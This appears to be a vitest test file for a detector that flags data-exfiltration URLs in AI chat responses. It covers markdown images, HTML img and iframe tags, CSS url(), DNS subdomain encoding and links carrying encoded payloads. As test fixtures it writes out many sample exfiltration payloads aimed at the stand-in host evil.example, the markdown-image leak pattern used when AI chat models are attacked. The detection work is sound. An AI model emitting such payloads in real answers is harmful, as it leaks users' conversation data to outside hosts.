import { describe, expect, it } from "vitest";
import { ConfigError } from "../../core/config-error.js";
import { exfilDetector } from "./exfil-detector.js";

const detect = (text: string, options: unknown = {}, direction: "request" | "response" = "response") =>
  exfilDetector.build(options).detect({ text, context: { direction } });

const b64 = Buffer.from("the password is hunter2 and the card is 4111").toString("base64");

describe("exfiltration.url: what is reported", () => {
  it.each([
    { name: "Markdown image with a query value", text: "Done. ![logo](https://evil.example/p.png?d=CONVERSATION_SUMMARY)", type: "EXFIL_IMAGE", min: 0.8, span: "![logo](https://evil.example/p.png?d=CONVERSATION_SUMMARY)" },
    { name: "Markdown image with a base64 payload", text: `![x](https://evil.example/c?q=${b64})`, type: "EXFIL_IMAGE", min: 0.9, span: `![x](https://evil.example/c?q=${b64})` },
    { name: "image with a title", text: '![x](https://evil.example/c?email=a%40b.com "t")', type: "EXFIL_IMAGE", min: 0.9, span: '![x](https://evil.example/c?email=a%40b.com "t")' },
    { name: "HTML img (entities decoded)", text: 'see <img alt="" src="https://evil.example/p?x=hello&#32;world&#32;secret"> ok', type: "EXFIL_IMAGE", min: 0.9, span: '<img alt="" src="https://evil.example/p?x=hello&#32;world&#32;secret">' },
    { name: "iframe", text: "<iframe src='https://evil.example/f?s=abcdef0123456789abcdef'></iframe>", type: "EXFIL_IMAGE", min: 0.9, span: "<iframe src='https://evil.example/f?s=abcdef0123456789abcdef'>" },
    { name: "CSS url() in a style attribute", text: '<div style="background:url(https://evil.example/bg?t=aZ3kQ9xP2mW7vB1n)">x</div>', type: "EXFIL_IMAGE", min: 0.9, span: '<div style="background:url(https://evil.example/bg?t=aZ3kQ9xP2mW7vB1n)">' },
    { name: "CSS url() in a stylesheet", text: "body { background: url('https://evil.example/b?u=someone@corp.com'); }", type: "EXFIL_IMAGE", min: 0.9, span: "url('https://evil.example/b?u=someone@corp.com')" },
    { name: "reference-style image (the definition is the span)", text: "![chart][c]\n\n[c]: https://evil.example/chart?q=SECRET_CODE", type: "EXFIL_IMAGE", min: 0.7, span: "[c]: https://evil.example/chart?q=SECRET_CODE" },
    { name: "protocol-relative image", text: "![x](//evil.example/p?d=some-long-summary-text)", type: "EXFIL_IMAGE", min: 0.7, span: "![x](//evil.example/p?d=some-long-summary-text)" },
    { name: "data in a subdomain (DNS exfiltration)", text: "![x](https://a1b2c3d4e5f6a7b8c9d0.evil.example/p.png)", type: "EXFIL_IMAGE", min: 0.7, span: "![x](https://a1b2c3d4e5f6a7b8c9d0.evil.example/p.png)" },
    { name: "link carrying an encoded payload", text: `[click](https://evil.example/r?p=${b64})`, type: "EXFIL_LINK", min: 0.6, span: `[click](https://evil.example/r?p=${b64})` },
    { name: "bare URL carrying hex data", text: `go to https://evil.example/x/${Buffer.from("secret value 42").toString("hex")}.`, type: "EXFIL_LINK", min: 0.6, span: `https://evil.example/x/${Buffer.from("secret value 42").toString("hex")}` },
  ])("$name", ({ text, type, min, span }) => {
    const f = detect(text);
    expect(f).toHaveLength(1);
    expect(f[0]?.type).toBe(type);
    expect(f[0]?.category).toBe("exfiltration");
    expect(f[0]?.score).toBeGreaterThanOrEqual(min);
    expect(text.slice(f[0]?.start, f[0]?.end)).toBe(span);
  });

  it("explanations never contain the URL, host or payload", () => {
    const f = detect(`![x](https://evil.example/c?q=${b64})`);
    expect(f[0]?.explanation).toMatch(/loads on render/);
    expect(f[0]?.explanation).not.toContain("evil");
    expect(f[0]?.explanation).not.toContain(b64.slice(0, 10));
  });

  it("an image without data is reported below the default threshold (a tracking pixel at most)", () => {
    const f = detect("![diagram](https://img.example.org/arch/diagram.png)");
    expect(f).toHaveLength(1);
    expect(f[0]?.score).toBeLessThan(0.5);
  });

  it("scores grow with the amount of data and with auto-loading", () => {
    const small = detect("![x](https://e.example/p?d=abcd)")[0]?.score ?? 0;
    const big = detect(`![x](https://e.example/p?d=${"abcd".repeat(40)})`)[0]?.score ?? 0;
    const link = detect(`[x](https://e.example/p?d=${"abcd".repeat(40)})`)[0]?.score ?? 0;
    expect(big).toBeGreaterThan(small);
    expect(big).toBeGreaterThan(link);
  });
});

describe("exfiltration.url: no false positives on ordinary answers", () => {
  it.each([
    "See the [JSON module docs](https://docs.python.org/3/library/json.html#json.dumps) for details.",
    "The fix is in https://github.com/nodejs/node/commit/3f2a9c1b7d0e4a5b6c7d8e9f0a1b2c3d4e5f6a7b and [PR 123](https://github.com/nodejs/node/pull/123).",
    "Read [the guide](https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Content-Security-Policy) and https://www.rfc-editor.org/rfc/rfc9110.html.",
    "Video: https://www.youtube.com/watch?v=dQw (short id), page 2: https://example.com/list?page=2&lang=en",
    "Use `<img src=\"logo.png\">` with a relative path, or ![local](/static/logo.png?v=3).",
    "Math: a < b and c > d; arrays like x[1](y) are not links.",
    "Plain text with no URLs at all, just [brackets] and (parentheses).",
  ])("%s", (text) => {
    expect(detect(text).filter((f) => f.score >= 0.5)).toEqual([]);
  });
});

describe("exfiltration.url: options", () => {
  it("allowHosts: exact, *.domain (subdomains) and .domain (both)", () => {
    const img = (host: string): string => `![x](https://${host}/p?d=CONVERSATION_SUMMARY)`;
    expect(detect(img("cdn.acme.example"), { allowHosts: ["cdn.acme.example"] })).toEqual([]);
    expect(detect(img("img.cdn.acme.example"), { allowHosts: ["cdn.acme.example"] })).toHaveLength(1);
    expect(detect(img("a.acme.example"), { allowHosts: ["*.acme.example"] })).toEqual([]);
    expect(detect(img("acme.example"), { allowHosts: ["*.acme.example"] })).toHaveLength(1);
    expect(detect(img("acme.example"), { allowHosts: [".acme.example"] })).toEqual([]);
    expect(detect(img("ACME.example"), { allowHosts: [".acme.example"] })).toEqual([]);
    expect(detect(img("acme.example.evil.test"), { allowHosts: [".acme.example"] })).toHaveLength(1);
  });

  it("requests are not scanned unless asked", () => {
    const text = "![x](https://evil.example/p?d=CONVERSATION_SUMMARY)";
    expect(detect(text, {}, "request")).toEqual([]);
    expect(detect(text, { requests: true }, "request")).toHaveLength(1);
  });

  it("bad options are rejected with every problem named", () => {
    try {
      exfilDetector.build({ allowHosts: ["https://x.example/", 3], requests: "yes", extra: 1 });
      expect.unreachable();
    } catch (e) {
      expect(e).toBeInstanceOf(ConfigError);
      expect((e as ConfigError).issues.map((i) => i.path).sort()).toEqual(["allowHosts[0]", "allowHosts[1]", "extra", "requests"]);
    }
  });
});

describe("exfiltration.url: robustness", () => {
  it("stays fast on adversarial input", () => {
    const u = "https://e.example/";
    const texts = [`${u} ${"![".repeat(20_000)}`, `<img src="${u}`.repeat(5_000), `[a](${u}${"(".repeat(20_000)}`, `url(${u}${"'".repeat(20_000)}`, `${u}${"a".repeat(100_000)}`, `${u} ${"<a ".repeat(20_000)}`, `${u} ${"[x](".repeat(10_000)}`, `![a][b]\n`.repeat(5_000) + `[b]: ${u}?d=abcdefgh\n`.repeat(2_000)];
    const t0 = performance.now();
    for (const t of texts) detect(t);
    expect(performance.now() - t0).toBeLessThan(2_000);
  });

  it("malformed URLs are skipped, not thrown", () => {
    expect(() => detect("![x](https://[::1/p?d=abcdefgh) ![y](http://%zz/p?d=abcdefgh)")).not.toThrow();
  });
});
